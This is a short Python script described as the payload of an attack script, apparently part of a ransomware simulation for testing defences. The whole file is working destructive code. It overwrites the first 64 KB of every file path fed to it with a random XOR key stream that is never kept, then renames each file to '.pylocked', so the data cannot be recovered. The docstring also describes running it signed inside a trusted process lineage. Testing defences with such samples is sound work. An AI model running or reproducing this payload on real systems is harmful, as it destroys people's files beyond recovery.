#!/usr/bin/env python3
"""The payload of attack-python.sh: reads file paths from stdin and, for at
most argv[1] seconds, XORs the first 64 KB of each with a random key stream
in place and renames it to X.pylocked. Prints `attempted failed`. A script
of its own (not `python3 -c`), so that, signed and started through its #!
line, it runs in the attack's trusted lineage."""
import os, sys, time
start = time.time()
attempted = failed = 0
for path in sys.stdin.read().split("\n"):
    if not path or time.time() - start > int(sys.argv[1]):
        continue
    attempted += 1
    try:
        with open(path, "r+b") as f:
            data = f.read()
            head = data[:65536]
            key = os.urandom(len(head))
            f.seek(0)
            f.write((int.from_bytes(head, "little") ^ int.from_bytes(key, "little")).to_bytes(len(head), "little"))
        os.rename(path, path + ".pylocked")
    except OSError:
        failed += 1
print(attempted, failed)
